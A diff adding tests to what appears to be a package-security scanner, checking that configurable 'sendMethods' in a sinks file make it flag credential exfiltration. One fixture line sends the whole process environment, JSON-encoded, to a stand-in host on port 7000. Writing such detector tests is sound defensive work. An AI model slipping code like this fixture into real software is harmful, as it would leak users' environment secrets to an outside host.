@@ -5,7 +5,7 @@ import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
 import { evaluateFacts } from "../../src/rules/evaluate.js";
 import { loadSignatures } from "../../src/rules/signatures.js";
 import { dedent } from "../analyzers/python/helpers.js";
-import { base, extraDir, jsFindings, pkg, pyFindings, sourcesYaml } from "./models-helpers.js";
+import { base, extraDir, jsFindings, pkg, pyFindings, sinksYaml, sourcesYaml } from "./models-helpers.js";
 
 const sources = (more: string) => loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", more) })]);
 
@@ -48,5 +48,23 @@ describe("sources.yaml fileApis.js reads", () => {
       expect(await jsFindings(js, base)).toEqual([]);
       expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 2"]);
     }
+  });
+});
+
+describe("sinks.yaml js.sendMethods", () => {
+  const module = 'js: { modules: { zorblat-net: { connect: socket } }, globals: {}';
+  const js = 'const c = require("zorblat-net").connect("c.example.invalid", 7000);\nc.transmit(JSON.stringify(process.env));\n';
+  // The finding is at the call that opened the connection (line 1).
+  it("a method of what a new sink returns sends when listed for its module (or module.member)", async () => {
+    expect(await jsFindings(js, loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module} }` }) })]))).toEqual([]);
+    for (const key of ["zorblat-net", "zorblat-net.connect"]) {
+      const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module}, sendMethods: { ${key}: [transmit] } }` }) })]);
+      expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 1"]);
+    }
+  });
+
+  it('"*" gives the methods of every other sink API', async () => {
+    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module}, sendMethods: { "*": [transmit] } }` }) })]);
+    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 1"]);
   });
 });
